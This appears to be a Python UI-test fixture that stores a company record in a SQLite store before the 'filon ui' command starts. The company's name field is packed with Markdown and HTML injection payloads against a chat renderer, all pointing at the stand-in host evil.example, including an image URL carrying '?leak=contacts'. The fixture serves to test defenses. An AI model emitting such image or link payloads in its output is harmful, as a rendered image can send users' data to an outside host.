"""A company whose name attacks the chat renderer, as a scraped or imported record could: a
Markdown image to an outside host, inline and reference-style, a raw `<img>` tag, a link, an
autolink, a bare URL and an entity-spelt image, all elsewhere. The UI tests put
it in the store before `filon ui` starts and search for it by its first word."""

from __future__ import annotations

from pathlib import Path

from store.db import open_store
from store.models import Company
from store.repositories.companies import upsert_companies

EVIL_HOST = "evil.example"
SEARCH_WORD = "Zorglub"
SIREN = "552100554"
NAME = (
    f"{SEARCH_WORD} ![p](https://{EVIL_HOST}/p.png?leak=contacts) "
    f'<img src="https://{EVIL_HOST}/tag.png"> [site](https://{EVIL_HOST}/x) '
    f"![r][ref] <https://{EVIL_HOST}/auto> www.{EVIL_HOST} &#33;[e](https://{EVIL_HOST}/e.png) "
    f"Conseil\n\n[ref]: https://{EVIL_HOST}/ref.png"
)
WEBSITE = "https://www.zorglub.fr"


def add_hostile_company(home: Path) -> None:
    """Put the hostile company in the store of FILON_HOME=home (created if need be)."""
    home.mkdir(parents=True, exist_ok=True)
    engine = open_store(f"sqlite:///{home / 'filon.db'}")
    try:
        upsert_companies(
            engine,
            companies=[
                Company(
                    siren=SIREN,
                    name=NAME,
                    city="LYON",
                    postcode="69001",
                    department="69",
                    naf_code="62.02A",
                    naf_section="J",
                    website=WEBSITE,
                    source="manual",
                )
            ],
        )
    finally:
        engine.dispose()
